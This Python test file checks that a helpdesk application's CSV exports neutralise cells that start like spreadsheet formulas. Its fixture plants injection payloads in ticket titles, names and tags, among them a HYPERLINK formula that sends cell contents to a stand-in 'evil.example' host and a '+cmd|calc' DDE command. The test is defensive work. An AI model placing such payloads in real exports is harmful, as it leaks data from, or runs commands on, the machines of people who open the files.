"""Class: formulas in exports. Published again and again: a title, a name or a note that begins like a formula is run by
the spreadsheet of whoever opens the export."""

import csv
import io

import pytest

from helpdesk.enums import Visibility
from portal.files.cells import FORMULA_STARTS
from tests.factories.accounts import MembershipFactory, ProgrammeFactory, UserFactory
from tests.factories.desk import TagFactory
from tests.factories.helpdesk import NOON, AccountFactory, TicketFactory
from tests.security.helpdesk import routes

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example?"&A1;"x")'
TABLES = {
    "helpdesk:tickets_csv": "/helpdesk/tickets/export.csv?scope=programme",
    "helpdesk:hours_csv": "/helpdesk/hours/export.csv?programme=evil",
    "helpdesk:desk_tickets_csv": "/helpdesk/desk/reports/tickets.csv",
}


def text_of(response):
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode()


def rows_of(text):
    for mark in (",", ";"):
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=mark))
        if len(rows[0]) > 3:
            return rows
    raise AssertionError(text[:200])


def test_every_table_of_the_helpdesk_is_known_here():
    found = {each.name for each in routes.of_helpdesk() if each.route.endswith((".csv", ".xlsx", ".ods"))}

    assert found == set(TABLES)


@pytest.fixture
def evil(db):
    programme = ProgrammeFactory(code="evil", name=f"@{EVIL}")
    person = UserFactory(name=EVIL, email="evil@evil.example")
    MembershipFactory(user=person, programme=programme, manager=True)
    ticket = TicketFactory(
        support=True, programme=programme, requester=person, title=EVIL, environment="+cmd|calc!A0",
        jems_version="-1+1", rating_comment="\t=1", rating="good", rated_at=NOON, closed=True,
    )  # fmt: skip
    ticket.tags.add(TagFactory(name="@SUM(A1)", slug="x"))
    TicketFactory(programme=programme, requester=person, title="\r=1", visibility=Visibility.PUBLIC)
    AccountFactory(programme=programme)
    return person


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_begins_like_a_formula(client, evil, tomas, name):
    client.force_login(tomas if ":desk_" in name else evil)

    rows = rows_of(text_of(client.get(TABLES[name])))

    assert len(rows) > 1
    numbers = {
        cell for row in rows[1:] for cell in row if cell.lstrip("+-").replace(".", "").replace(":", "").isdigit()
    }
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and cell not in numbers]
    assert bad == []
